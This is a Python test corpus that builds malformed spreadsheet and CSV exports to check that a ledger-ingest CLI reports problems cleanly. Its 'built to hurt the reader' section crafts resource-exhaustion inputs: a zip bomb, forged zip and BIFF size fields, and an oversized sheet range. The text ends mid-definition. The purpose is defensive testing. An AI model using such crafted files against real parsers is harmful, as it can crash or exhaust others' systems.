"""The hostile-input corpus: bad ledger exports, each written by one small function.

A case writes its file(s) into a folder and declares what the user must be told
(a message fragment and the file / sheet / row / column it names) and how many
rows must end loaded, skipped and rejected. :func:`run_case` drives the real CLI
(``dash check`` and ``dash ingest`` through typer's CliRunner) and lists every
broken promise: a traceback, a wrong exit code, a missing message, an account
that does not balance, a store that disagrees with the summary.

Used by ``tests/hostile/test_corpus.py`` and ``bench/hostile_corpus.py``.
"""

from __future__ import annotations

import codecs
import contextlib
import datetime as dt
import random
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from unittest import mock

from tests.conftest import write_csv, write_xlsx
from tests.escapes import BIDI, C1, CLEAR, OSC52, PAINT, raw_controls

# ---------------------------------------------------------------- what a case declares


@dataclass(frozen=True)
class Msg:
    """A message the user must see: one output line holding all of these."""

    fragment: str
    file: str | None
    sheet: str | None = None
    row: int | None = None
    column: str | None = None
    once: bool = False  # the line must appear exactly once (in one command's output)

    def parts(self) -> list[str]:
        out = [self.file] if self.file else []
        if self.sheet:
            out.append(f"工作表「{self.sheet}」")
        if self.row is not None:
            out.append(f"第{self.row}行")
        if self.column:
            out.append(f"列「{self.column}」")
        return [*out, self.fragment]

    def lines_in(self, output: str) -> list[str]:
        parts = self.parts()
        return [ln for ln in output.splitlines() if all(p in ln for p in parts)]


@dataclass
class Expect:
    messages: list[Msg]
    loaded: int
    rejected: int = 0
    skipped: int = 0
    unreadable: tuple[str, ...] = ()  # file labels that must be reported unreadable
    problems: bool | None = None  # `dash check` exits 2; default: anything rejected or unreadable
    verify: Callable | None = None  # extra checks on the store: verify(con) raises AssertionError
    patch: Callable[[Path], contextlib.AbstractContextManager] | None = None  # e.g. a file vanishing

    @property
    def has_problems(self) -> bool:
        return self.problems if self.problems is not None else bool(self.rejected or self.unreadable)

    def label(self) -> str:
        if self.unreadable:
            return "unreadable"
        return f"{self.loaded} loaded, {self.skipped} skipped, {self.rejected} rejected"


@dataclass(frozen=True)
class Case:
    name: str
    title: str
    build: Callable[[Path], Expect]
    big: bool = False


CASES: list[Case] = []


def case(title: str, big: bool = False):
    def register(fn: Callable[[Path], Expect]) -> Callable[[Path], Expect]:
        CASES.append(Case(fn.__name__, title, fn, big))
        return fn

    return register


# ---------------------------------------------------------------- data the cases share

CASE_H = ["案号", "当事人", "立案日期", "决定日期", "罚款金额", "全过程记录"]
PET_H = ["编号", "受理日期", "投诉人", "联系电话", "反映问题", "级别", "办结日期"]
CASES_FILE = "行政处罚案件台账.xlsx"


def good_case(i: int) -> list:
    day = i % 28 + 1
    return [f"新环罚〔2024〕{i}号", f"企业{i}", f"2024-03-{day:02d}", f"2024-04-{day:02d}", 1000 * i, "是"]


def good_petition(i: int) -> list:
    return [f"XF2024{i:03d}", "2024-05-01", f"投诉人{i}", f"138{i:08d}", "夜间噪声扰民", "县级", "2024-05-20"]


def cases_xlsx(d: Path, rows: list[list], name: str = CASES_FILE, **kw) -> Path:
    return write_xlsx(d / name, [CASE_H, *rows], **kw)


def _xlsx_bytes(tmp: Path, rows: list[list]) -> bytes:
    write_xlsx(tmp, rows)
    data = tmp.read_bytes()
    tmp.unlink()
    return data


def bad_cells(d: Path, column: str, cells: list[tuple[str, str]], sheet: str = "Sheet1") -> Expect:
    """One good row, then one row per bad value in ``column``; each must be rejected by name."""
    i = CASE_H.index(column)
    rows = [good_case(1)]
    for n, (value, _) in enumerate(cells, start=2):
        row = good_case(n)
        row[i] = value
        rows.append(row)
    cases_xlsx(d, rows, sheet=sheet)
    msgs = [Msg(reason, CASES_FILE, sheet, row=n + 1, column=column)
            for n, (_, reason) in enumerate(cells, start=2)]
    return Expect(msgs, loaded=1, rejected=len(cells))


# ---------------------------------------------------------------- files that cannot be read


@case("empty file (.xlsx, 0 bytes)")
def empty_xlsx(d: Path) -> Expect:
    (d / CASES_FILE).write_bytes(b"")
    return Expect([Msg("空文件（0 字节）", CASES_FILE)], 0, unreadable=(CASES_FILE,))


@case("empty file (.csv, 0 bytes)")
def empty_csv(d: Path) -> Expect:
    (d / "信访投诉台账.csv").write_bytes(b"")
    return Expect([Msg("空文件（0 字节）", "信访投诉台账.csv")], 0, unreadable=("信访投诉台账.csv",))


@case("csv holding only a UTF-8 BOM")
def bom_only_csv(d: Path) -> Expect:
    (d / "信访投诉台账.csv").write_bytes(codecs.BOM_UTF8)
    return Expect([Msg("文件没有内容", "信访投诉台账.csv")], 0, unreadable=("信访投诉台账.csv",))


@case("csv of blank lines and spaces only")
def whitespace_csv(d: Path) -> Expect:
    (d / "信访投诉台账.csv").write_bytes(b"   \r\n\r\n \t \r\n")
    return Expect([Msg("找不到可识别的表头", "信访投诉台账.csv")], 0, unreadable=("信访投诉台账.csv",))


@case("binary junk named .xlsx")
def binary_junk_xlsx(d: Path) -> Expect:
    (d / CASES_FILE).write_bytes(random.Random(7).randbytes(5000))
    return Expect([Msg("不是有效的 xlsx 文件", CASES_FILE)], 0, unreadable=(CASES_FILE,))


@case("csv text named .xlsx (read as what it is, and said)")
def text_named_xlsx(d: Path) -> Expect:
    (d / CASES_FILE).write_text(",".join(CASE_H) + "\n" + ",".join(map(str, good_case(1))) + "\n")
    return Expect([Msg("名为 .xlsx，实为文本表格（UTF-8）", CASES_FILE, once=True)], 1)


@case("xlsx workbook named .csv (read as what it is, and said)")
def xlsx_named_csv(d: Path) -> Expect:
    (d / "信访投诉台账.csv").write_bytes(_xlsx_bytes(d / "x.xlsx", [PET_H, good_petition(1)]))
    return Expect([Msg("名为 .csv，实为 xlsx 工作簿", "信访投诉台账.csv", once=True)], 1)


@case("truncated xlsx (download cut off)")
def truncated_xlsx(d: Path) -> Expect:
    data = _xlsx_bytes(d / "x.xlsx", [CASE_H, *(good_case(i) for i in range(1, 40))])
    (d / CASES_FILE).write_bytes(data[: len(data) * 3 // 5])
    return Expect([Msg("xlsx 无法打开（文件损坏或不完整）", CASES_FILE)], 0, unreadable=(CASES_FILE,))


@case("password-protected xlsx (OLE compound file)")
def encrypted_xlsx(d: Path) -> Expect:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + b"\x3e\x00\x03\x00\xfe\xff" + bytes(4066)
    (d / CASES_FILE).write_bytes(ole + "EncryptedPackage".encode("utf-16-le"))
    return Expect([Msg("文件已加密（设有打开密码）", CASES_FILE)], 0, unreadable=(CASES_FILE,))


# ---------------------------------------------------------------- other spreadsheet formats

XLS_FILE = "行政处罚案件台账.xls"


def _cases_with_merged_party(n: int) -> list[list]:
    """A title row, the header, ``n`` cases whose first three share one party (merged down), a total."""
    rows = [["2024年行政处罚案件台账", None, None, None, None, None], CASE_H]
    for i in range(1, n + 1):
        row = good_case(i)
        row[2], row[3] = dt.date(2024, 3, i), dt.date(2024, 4, i)
        rows.append(row)
    rows.append(["合计", None, None, None, sum(1000 * i for i in range(1, n + 1)), None])
    return rows


@case("old .xls workbook (BIFF8: merged title, merged party cells, dates as numbers, a total row)")
def old_xls(d: Path) -> Expect:
    from tests.formats import write_xls

    write_xls(d / XLS_FILE, _cases_with_merged_party(4), sheet="台账", merges=[(0, 0, 0, 5), (2, 1, 4, 1)])

    def verify(con):
        got = con.execute("select case_no, party, filed_on, source_row from enforcement_cases order by 4").fetchall()
        assert [r[1] for r in got] == ["企业1", "企业1", "企业1", "企业4"], got
        assert got[0][2] == dt.date(2024, 3, 1) and [r[3] for r in got] == [3, 4, 5, 6], got

    return Expect([Msg("合并单元格的值已填入所合并的每一行：B3:B5", XLS_FILE, once=True),
                   Msg("xls 工作表「台账」", XLS_FILE)], 4, skipped=1, verify=verify)


@case("corrupt .xls (OLE2 signature, nothing inside)")
def corrupt_ole2_xls(d: Path) -> Expect:
    (d / XLS_FILE).write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000))
    return Expect([Msg("不是有效的 .xls 文件（复合文档已损坏）", XLS_FILE)], 0, unreadable=(XLS_FILE,))


@case("web system's '导出Excel': an HTML table in GBK named .xls (rowspan, &nbsp;, <br>)")
def html_in_xls_gbk(d: Path) -> Expect:
    from tests.formats import write_html

    rows = [PET_H, good_petition(1), good_petition(2), good_petition(3)]
    rows[1][4] = "夜间噪声\n扰民"
    rows[3][6] = None
    write_html(d / "信访投诉台账.xls", rows, "gbk", title="2024年信访投诉台账", rowspans={(1, 5): 2})

    def verify(con):
        got = con.execute("select petition_no, summary, level from petitions order by 1").fetchall()
        assert got == [("XF2024001", "夜间噪声 扰民", "县级"), ("XF2024002", "夜间噪声扰民", "县级"),
                       ("XF2024003", "夜间噪声扰民", "县级")], got

    return Expect([Msg("名为 .xls，实为网页表格（GBK）", "信访投诉台账.xls", once=True),
                   Msg("合并单元格的值已填入所合并的每一行：F3:F4", "信访投诉台账.xls")], 3, verify=verify)


@case("tab-separated GBK text named .xls")
def tab_text_named_xls(d: Path) -> Expect:
    text = "\r\n".join("\t".join(map(str, r)) for r in [PET_H, good_petition(1), good_petition(2)]) + "\r\n"
    (d / "信访投诉台账.xls").write_bytes(text.encode("gbk"))
    return Expect([Msg("名为 .xls，实为文本表格（GBK，制表符分隔）", "信访投诉台账.xls", once=True)], 2)


@case("OpenDocument .ods (merged cells, dates)")
def ods_workbook(d: Path) -> Expect:
    from tests.formats import write_ods

    write_ods(d / "行政处罚案件台账.ods", _cases_with_merged_party(3), merges=[(0, 0, 0, 5), (2, 1, 3, 1)])
    return Expect([Msg("合并单元格的值已填入所合并的每一行：B3:B4", "行政处罚案件台账.ods"),
                   Msg("ods 工作表「Sheet1」", "行政处罚案件台账.ods")], 3, skipped=1)


@case("Excel binary .xlsb (an error cell #REF!)")
def xlsb_workbook(d: Path) -> Expect:
    from tests.formats import write_xlsb

    rows = [CASE_H, *(good_case(i) for i in range(1, 4))]
    write_xlsb(d / "行政处罚案件台账.xlsb", rows, errors={(2, 1): 0x17})
    return Expect([Msg("Excel 公式错误值 #REF!", "行政处罚案件台账.xlsb", "Sheet1", 3, "当事人")], 2, rejected=1)


@case("WPS .et saved in the compatible (BIFF) format")
def wps_et(d: Path) -> Expect:
    from tests.formats import write_xls

    write_xls(d / "行政处罚案件台账.et", [CASE_H, good_case(1), good_case(2)])
    return Expect([Msg("xls 工作表「Sheet1」", "行政处罚案件台账.et")], 2)


# ---------------------------------------------------------------- workbooks built to hurt the reader


def _far_cell(d: Path, name: str, row: int, col: int) -> Path:
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(d / name))
    ws = wb.add_worksheet()
    for r, values in enumerate([CASE_H, good_case(1)]):
        ws.write_row(r, 0, values)
    ws.write(row, col, "x")
    wb.close()
    return d / name


@case("a 5 KB xlsx with one value at XFD1048576 (the engine would ask for 512 GB and abort)")
def far_cell_xlsx(d: Path) -> Expect:
    _far_cell(d, CASES_FILE, 1_048_575, 16_383)
    write_csv(d / "信访投诉台账.csv", [PET_H, good_petition(1)])
    return Expect([Msg("数据范围达 1,048,576 行 × 16,384 列，超出读取上限", CASES_FILE)], 1,
                  unreadable=(CASES_FILE,))


def _strip_dimension(path: Path) -> None:
    """Rewrite a workbook without its sheet's dimension element (the size it declares)."""
    import re
    import zipfile

    parts = {}
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            parts[name] = zf.read(name)
    parts["xl/worksheets/sheet1.xml"] = re.sub(rb"<dimension[^>]*/>", b"", parts["xl/worksheets/sheet1.xml"])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)


@contextlib.contextmanager
def _engine_in_child_for_every_workbook(folder: Path) -> Iterator[None]:
    from dashboard.readers import sheetxml

    with mock.patch.object(sheetxml, "FULL_SCAN_BYTES", 0):
        yield


@case("the engine aborts on a far cell it was handed (in its own process: the ingest goes on)")
def engine_abort_in_child(d: Path) -> Expect:
    # Every sheet counts as too large to check cell by cell, so this one reaches the engine,
    # which dies (SIGABRT) in the child process; the other file still loads.
    _strip_dimension(_far_cell(d, CASES_FILE, 1_048_575, 16_383))
    write_csv(d / "信访投诉台账.csv", [PET_H, good_petition(1)])
    return Expect([Msg("读取时表格引擎异常终止", CASES_FILE)], 1, unreadable=(CASES_FILE,),
                  patch=_engine_in_child_for_every_workbook)


@case("an .xls whose dimension record claims 4 billion rows (the engine would abort)")
def xls_lying_dimension(d: Path) -> Expect:
    import struct

    from tests.formats import write_xls

    path = write_xls(d / XLS_FILE, [CASE_H, good_case(1)])
    data = bytearray(path.read_bytes())
    at = data.find(b"\x00\x02\x0e\x00")  # DIMENSIONS, BIFF8: rows as 32-bit numbers
    struct.pack_into("<I", data, at + 8, 0xFFFFFFF0)
    path.write_bytes(bytes(data))
    write_csv(d / "信访投诉台账.csv", [PET_H, good_petition(1)])
    return Expect([Msg("声明的数据范围达 4,294,967,280 行", XLS_FILE)], 1, unreadable=(XLS_FILE,))


@case("a zip bomb: a sheet inflating over 100 times its compressed size")
def zip_bomb_xlsx(d: Path) -> Expect:
    import zipfile

    path = cases_xlsx(d, [good_case(1)])
    with zipfile.ZipFile(path) as zf:
        parts = {n: zf.read(n) for n in zf.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"]
    at = sheet.index(b"</sheetData>")
    parts["xl/worksheets/sheet1.xml"] = sheet[:at] + b" " * (40 * 1024 * 1024) + sheet[at:]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return Expect([Msg("压缩比异常", CASES_FILE), Msg("疑为压缩炸弹", CASES_FILE)], 0, unreadable=(CASES_FILE,))


@case("a zip whose directory understates a sheet's size (the inflated part is checked)")
def zip_size_lie_xlsx(d: Path) -> Expect:
    import struct

    path = cases_xlsx(d, [good_case(i) for i in range(1, 200)])
    data = bytearray(path.read_bytes())
    # Both the local header and the central directory record say the sheet is 600 bytes.
    name = b"xl/worksheets/sheet1.xml"
    for sig, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(sig)
        while at >= 0:
            name_at = at + (30 if sig == b"PK\x03\x04" else 46)
            if data[name_at:name_at + len(name)] == name:
                struct.pack_into("<I", data, at + size_at, 600)
            at = data.find(sig, at + 4)
    path.write_bytes(bytes(data))
    return Expect([Msg("工作表「Sheet1」", CASES_FILE)], 0, unreadable=(CASES_FILE,))


@case("a 1.4 MB workbook with 3,000 sheets")
def many_sheets_xlsx(d: Path) -> Expect:
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(d / CASES_FILE))
    for i in range(3000):
        wb.add_worksheet().write(0, 0, i)
    wb.close()
    write_csv(d / "信访投诉台账.csv", [PET_H, good_petition(1)])
    return Expect([Msg("工作簿含 3,000 个工作表，超出读取上限（200 个）", CASES_FILE)], 1, unreadable=(CASES_FILE,))


@case("xlsx whose only visible sheet is a chart")
def chart_only_xlsx(d: Path) -> Expect:
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(d / CASES_FILE))
    data = wb.add_worksheet("数据")
    data.write_column(0, 0, [3, 5, 8])
    data.hide()
    sheet = wb.add_chartsheet("图表")
    chart = wb.add_chart({"type": "column"})
    chart.add_series({"values": "=数据!$A$1:$A$3"})
    sheet.set_chart(chart)
    sheet.activate()
    wb.close()
    return Expect([Msg("工作簿中没有含数据的工作表（空白或只有图表）", CASES_FILE),
                   Msg("隐藏的工作表未读取：「数据」", CASES_FILE)], 0, unreadable=(CASES_FILE,))


@case("xlsx with one blank sheet")
def blank_xlsx(d: Path) -> Expect:
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(d / CASES_FILE))
    wb.add_worksheet("Sheet1")
    wb.close()
    return Expect([Msg("工作簿中没有含数据的工作表", CASES_FILE)], 0, unreadable=(CASES_FILE,))


@case("the ledger sits in a hidden sheet")
def hidden_ledger_sheet(d: Path) -> Expect:
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(d / CASES_FILE))
    wb.add_worksheet("说明").write(0, 0, "本表由执法系统导出，请勿修改")
    ws = wb.add_worksheet("案件")
    for r, row in enumerate([CASE_H, good_case(1)]):
        ws.write_row(r, 0, row)
    ws.hide()
    wb.close()
    return Expect([Msg("隐藏的工作表未读取：「案件」", CASES_FILE)], 0, unreadable=(CASES_FILE,))


@case("broken link (shortcut) to an export")
def broken_symlink(d: Path) -> Expect:
    (d / CASES_FILE).symlink_to(d / "已删除" / CASES_FILE)
    return Expect([Msg("链接（快捷方式）指向的文件不存在", CASES_FILE)], 0, unreadable=(CASES_FILE,))


# ---------------------------------------------------------------- encodings


@case("Excel 'Unicode text' save: UTF-16 with BOM, tab separated (readable)")
def utf16_tab_txt(d: Path) -> Expect:
    text = "\r\n".join("\t".join(map(str, r)) for r in [PET_H, good_petition(1), good_petition(2)]) + "\r\n"
    (d / "信访投诉台账.txt").write_bytes(text.encode("utf-16"))
    return Expect([Msg("编码 UTF-16，制表符分隔", "信访投诉台账.txt")], 2)


@case("UTF-16 without BOM (readable)")
def utf16_no_bom_csv(d: Path) -> Expect:
    text = "\r\n".join(",".join(map(str, r)) for r in [PET_H, good_petition(1), good_petition(2)]) + "\r\n"
    (d / "信访投诉台账.csv").write_bytes(text.encode("utf-16-le"))
    return Expect([Msg("UTF-16-LE（无 BOM）", "信访投诉台账.csv")], 2)


@case("Big5 (traditional Chinese) csv")
def big5_csv(d: Path) -> Expect:
    rows = [["編號", "受理日期", "投訴人", "反映問題"], ["XF1", "2024-05-01", "陳大文", "噪音擾民"]]
    write_csv(d / "信訪.csv", rows, "big5")
    return Expect([Msg("找不到可识别的表头", "信訪.csv"), Msg("Big5", "信訪.csv")], 0, unreadable=("信訪.csv",))


@case("Shift-JIS (Japanese) csv")
def shift_jis_csv(d: Path) -> Expect:
    rows = [["番号", "受付日", "申立人", "内容"], ["A1", "2024-05-01", "山田太郎", "騒音"]]
    write_csv(d / "苦情.csv", rows, "shift_jis")
    return Expect([Msg("找不到可识别的表头", "苦情.csv")], 0, unreadable=("苦情.csv",))


@case("Windows-1252 (Western) csv")
def cp1252_csv(d: Path) -> Expect:
    rows = [["Numéro", "Reçu le", "Déclarant"], ["A1", "2024-05-01", "Renée Müller"]]
    write_csv(d / "plaintes.csv", rows, "cp1252")
    return Expect([Msg("无法识别的编码", "plaintes.csv")], 0, unreadable=("plaintes.csv",))


@case("GBK csv of a table no ledger knows (not mistaken for another encoding)")
def gbk_unknown_table(d: Path) -> Expect:
    name = "办公用品领用登记.csv"
    write_csv(d / name, [["领用日期", "物品名称", "数量", "领用人"], ["2024-05-01", "打印纸", "5", "张三"]], "gbk")
    return Expect([Msg("找不到可识别的表头", name), Msg("（按 GBK 解码；", name)], 0, unreadable=(name,))


@case("mixed encodings: UTF-8 rows, then GBK rows")
def mixed_utf8_gbk_csv(d: Path) -> Expect:
    head = "\r\n".join(",".join(map(str, r)) for r in [PET_H, good_petition(1)]) + "\r\n"
    tail = ",".join(map(str, good_petition(2))) + "\r\n"
    (d / "信访投诉台账.csv").write_bytes(head.encode("utf-8") + tail.encode("gbk"))
    return Expect([Msg("编码混杂", "信访投诉台账.csv"), Msg("第 3 行起不是 UTF-8", "信访投诉台账.csv")], 0,
                  unreadable=("信访投诉台账.csv",))


@case("UTF-8 BOM, then GBK text")
def bom_then_gbk_csv(d: Path) -> Expect:
    text = "\r\n".join(",".join(map(str, r)) for r in [PET_H, good_petition(1)]) + "\r\n"
    (d / "信访投诉台账.csv").write_bytes(codecs.BOM_UTF8 + text.encode("gbk"))
    return Expect([Msg("编码混杂", "信访投诉台账.csv"), Msg("第 1 行起不是 UTF-8", "信访投诉台账.csv")], 0,
                  unreadable=("信访投诉台账.csv",))


@case("GBK, tab separated .txt (Excel 'text (tab delimited)' save)")
def gbk_tab_txt(d: Path) -> Expect:
    text = "\r\n".join("\t".join(map(str, r)) for r in [PET_H, good_petition(1), good_petition(2)]) + "\r\n"
    (d / "信访投诉台账.txt").write_bytes(text.encode("gbk"))
    return Expect([Msg("编码 GBK，制表符分隔", "信访投诉台账.txt")], 2)


@case("old Mac line ends (CR only)")
def cr_only_csv(d: Path) -> Expect:
    text = "\r".join(",".join(map(str, r)) for r in [PET_H, good_petition(1), good_petition(2)]) + "\r"
    (d / "信访投诉台账.csv").write_bytes(text.encode("utf-8"))
    return Expect([Msg("编码 UTF-8", "信访投诉台账.csv")], 2)


# ---------------------------------------------------------------- headers


@case("no recognisable header")
def no_header(d: Path) -> Expect:
    write_xlsx(d / "export_0001.xlsx", [["商品", "单价", "数量"], ["钢笔", 3, 10]])
    return Expect([Msg("找不到可识别的表头", "export_0001.xlsx")], 0, unreadable=("export_0001.xlsx",))


@case("header below row 60")
def header_after_row_60(d: Path) -> Expect:
    write_xlsx(d / CASES_FILE, [[f"说明第{i}行"] for i in range(61)] + [CASE_H, good_case(1)])
    return Expect([Msg("前 60 行中没有与任何台账对应的列名", CASES_FILE)], 0, unreadable=(CASES_FILE,))


@case("header on row 40 of a csv (39 lines of notes above)")
def header_row_40_csv(d: Path) -> Expect:
    bad = good_petition(3)
    bad[1] = "2024-02-30"
    rows = [[f"说明：第{i}条"] for i in range(1, 40)] + [PET_H, good_petition(1), good_petition(2), bad]
    write_csv(d / "信访投诉台账.csv", rows)
    return Expect([Msg("日期不存在", "信访投诉台账.csv", row=43, column="受理日期")], 2, rejected=1)


@case("header on row 40 of an xlsx (title and notes above)")
def header_row_40_xlsx(d: Path) -> Expect:
    bad = good_case(3)
    bad[2] = "2024-13-01"
    rows = [[f"填报说明{i}", "（略）"] for i in range(1, 39)] + [CASE_H, good_case(1), good_case(2), bad]
    write_xlsx(d / CASES_FILE, rows, title="2024年行政处罚案件台账", sheet="台账")

    def verify(con):
        assert con.execute("select min(source_row) from enforcement_cases").fetchall() == [(41,)]

    return Expect([Msg("日期不存在", CASES_FILE, "台账", row=43, column="立案日期")], 2, rejected=1,
                  verify=verify)


@case("a required column missing")
def required_column_missing(d: Path) -> Expect:
    write_xlsx(d / CASES_FILE, [["案号", "当事人", "罚款金额"], ["A1", "甲", 1], ["A2", "乙", 2], ["A3", "丙", 3]])
    return Expect([Msg("缺少必填列：立案日期；本表 3 行均未导入", CASES_FILE, "Sheet1")], 0, rejected=3)


@case("two columns mapping to the same field")
def two_columns_one_field(d: Path) -> Expect:
    rows = [["案号", "案件编号", "当事人", "立案日期"], ["A1", "X-1", "甲", "2024-03-01"], ["A2", "X-2", "乙", "2024-03-02"]]
    write_xlsx(d / CASES_FILE, rows)

    def verify(con):
        assert con.execute("select case_no from enforcement_cases order by 1").fetchall() == [("A1",), ("A2",)]

    return Expect([Msg("多列对应同一字段「案号」：案号、案件编号；使用「案号」", CASES_FILE)], 2, verify=verify)


@case("unknown extra columns: kept in extra, reported once, not an error")
def unknown_extra_columns(d: Path) -> Expect:
    write_xlsx(d / CASES_FILE, [[*CASE_H, "备用列", "QQ号"], *([*good_case(i), "x", str(10000 + i)] for i in (1, 2, 3))])

    def kept(con) -> None:
        got = con.execute("SELECT case_no, extra->>'备用列', extra->>'QQ号' FROM enforcement_cases ORDER BY 1").fetchall()
        assert [r[1:] for r in got] == [("x", "10001"), ("x", "10002"), ("x", "10003")], got

    return Expect([Msg("未识别的列（原样保存在「其他列」extra 中", CASES_FILE, once=True),
                   Msg("备用列、QQ号", CASES_FILE, once=True)], 3, verify=kept)


@case("zero-width spaces inside header cells")
def zero_width_header(d: Path) -> Expect:
    header = ["案\u200b号", "当事人\ufeff", "立案\u200d日期"]
    write_csv(d / "处罚案件.csv", [header, ["A1", "甲", "2024-03-01"], ["A2", "乙", "2024-03-02"]])
    return Expect([Msg("编码 UTF-8", "处罚案件.csv")], 2)


@case("a second sheet whose header is not recognised")
def second_sheet_unrecognised(d: Path) -> Expect:
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(d / CASES_FILE))
    ws = wb.add_worksheet("案件")
    for r, row in enumerate([CASE_H, good_case(1), good_case(2)]):
        ws.write_row(r, 0, row)
    ws = wb.add_worksheet("信访")
    for r, row in enumerate([["流水", "日子", "人"], ["P1", "2024-01-01", "张"], ["P2", "2024-01-02", "李"]]):
        ws.write_row(r, 0, row)
    wb.close()
    return Expect([Msg("工作表「信访」（3 行）未导入：找不到可识别的表头", CASES_FILE)], 2)


# ---------------------------------------------------------------- bad values


@case("every kind of bad date")
def bad_dates(d: Path) -> Expect:
    return bad_cells(d, "立案日期", [("2024-02-30", "日期不存在"), ("2024-13-01", "日期不存在"),
                                    ("昨天", "无法识别的日期"), ("2024/3", "只有年月、没有日"),
                                    ("3000000", "Excel日期序号超出范围"), ("2024-03-05 25:00", "无效的时间"),
                                    ("2024年2月30日", "日期不存在"), ("20241301", "日期不存在"),
                                    ("2024-3-5-6", "无法识别的日期")])


@case("every kind of bad boolean")
def bad_booleans(d: Path) -> Expect:
    return bad_cells(d, "全过程记录", [("可能", "无法识别的是/否值"), ("是的", "无法识别的是/否值"),
                                     ("2", "无法识别的是/否值"), ("OK", "无法识别的是/否值")])


@case("every kind of bad money")
def bad_money(d: Path) -> Expect:
    return bad_cells(d, "罚款金额", [("十元", "无法识别的金额"), ("5800美元", "无法识别的金额单位"),
                                   ("1.2.3", "无法识别的金额"), ("1e20", "数值超出范围"),
                                   ("约5000", "无法识别的金额")])


@case("every kind of bad integer (permits)")
def bad_integers(d: Path) -> Expect:
    header = ["受理编号", "项目名称", "环评文件类型", "受理日期", "不计时天数"]
    cells = [("3.5", "不是整数"), ("三天", "无法识别的整数"), ("2万", "数值带有数量单位"), ("¥5", "无法识别的整数"),
             ("99999999999999999999", "数值超出范围")]
    rows = [header, ["HP1", "项目1", "报告表", "2024-03-01", "10"]]
    rows += [[f"HP{n}", f"项目{n}", "报告表", "2024-03-01", v] for n, (v, _) in enumerate(cells, start=2)]
    write_xlsx(d / "环评审批台账.xlsx", rows)
    msgs = [Msg(r, "环评审批台账.xlsx", "Sheet1", n + 1, "不计时天数") for n, (_, r) in enumerate(cells, start=2)]
    return Expect(msgs, 1, rejected=len(cells))


@case("negative fines")
def negative_fines(d: Path) -> Expect:
    return bad_cells(d, "罚款金额", [("-500", "不能为负数"), ("-5,000元", "不能为负数"), ("-0.5万元", "不能为负数")])


@case("negative counts and hours (trainings)")
def negative_counts(d: Path) -> Expect:
    rows = [["日期", "培训名称", "参训人数", "学时"], ["2024-03-01", "行政处罚法培训", 30, 2],
            ["2024-04-01", "执法规范培训", -3, 2], ["2024-05-01", "案卷评查", 12, "-1.5"]]
    write_xlsx(d / "培训台账.xlsx", rows)
    return Expect([Msg("不能为负数", "培训台账.xlsx", "Sheet1", 3, "参训人数"),
                   Msg("不能为负数", "培训台账.xlsx", "Sheet1", 4, "学时")], 1, rejected=2)


@case("a date in the future")
def future_date(d: Path) -> Expect:
    later = (dt.date.today() + dt.timedelta(days=40)).isoformat()
    return bad_cells(d, "立案日期", [(later, "日期晚于今天")])


@case("a date before 2000")
def before_2000(d: Path) -> Expect:
    return bad_cells(d, "立案日期", [("1999-12-31", "日期早于 2000 年"), ("1900-01-01", "日期早于 2000 年")])


@case("decided before filed")
def decided_before_filed(d: Path) -> Expect:
    return bad_cells(d, "决定日期", [("2024-01-02", "早于立案日期（2024-03-03）")])


@case("petition closed before it was received")
def closed_before_received(d: Path) -> Expect:
    bad = good_petition(2)
    bad[6] = "2024-04-01"
    write_csv(d / "信访投诉台账.csv", [PET_H, good_petition(1), bad], "gbk")
    return Expect([Msg("早于受理日期", "信访投诉台账.csv", row=3, column="办结日期")], 1, rejected=1)


@case("Excel error cells (#REF!, #VALUE!, #N/A) in date, money and text columns")
def excel_error_cells(d: Path) -> Expect:
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(d / CASES_FILE))
    ws = wb.add_worksheet("Sheet1")
    ws.write_row(0, 0, CASE_H)
    for r in range(1, 5):
        ws.write_row(r, 0, good_case(r))
    ws.write_formula(1, 2, "=#REF!+1", None, "#REF!")
    ws.write_formula(2, 4, '=VALUE("x")', None, "#VALUE!")
    ws.write_formula(3, 1, "=VLOOKUP(A4,Sheet2!A:B,2,0)", None, "#N/A")
    wb.close()
    return Expect([Msg("Excel 公式错误值 #REF!", CASES_FILE, "Sheet1", 2, "立案日期"),
                   Msg("Excel 公式错误值 #VALUE!", CASES_FILE, "Sheet1", 3, "罚款金额"),
                   Msg("Excel 公式错误值 #N/A", CASES_FILE, "Sheet1", 4, "当事人")], 1, rejected=3)


@case("an error cell right after a bordered empty cell")
def error_after_styled_blank(d: Path) -> Expect:
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(d / CASES_FILE))
    ws = wb.add_worksheet("Sheet1")
    border = wb.add_format({"border": 1})
    ws.write_row(0, 0, CASE_H, border)
    ws.write_row(1, 0, good_case(1), border)
    ws.write_row(2, 0, good_case(2)[:3], border)
    ws.write_blank(2, 3, None, border)
    ws.write_formula(2, 4, "=1/0", border, "#DIV/0!")
    ws.write(2, 5, "是", border)
    wb.close()
    return Expect([Msg("Excel 公式错误值 #DIV/0!", CASES_FILE, "Sheet1", 3, "罚款金额")], 1, rejected=1)


@case("formulas with cached values")
def formulas_cached(d: Path) -> Expect:
    import xlsxwriter

    wb = xlsxwriter.Workbook(str(d / CASES_FILE))
    ws = wb.add_worksheet("Sheet1")
    ws.write_row(0, 0, CASE_H)
    for r in range(1, 4):
        ws.write_row(r, 0, good_case(r))
    ws.write_formula(2, 4, "=E2*2", None, 2000)
    ws.write_formula(3, 1, "=B2", None, "企业1")
    wb.close()

    def verify(con):
        got = con.execute("select party, fine_yuan from enforcement_cases order by source_row").fetchall()
        assert [(p, int(f)) for p, f in got] == [("企业1", 1000), ("企业2", 2000), ("企业1", 3000)], got

    return Expect([Msg("工作表「Sheet1」", CASES_FILE)], 3, verify=verify)


@case("formulas saved without values (written by a program, never opened in Excel)")
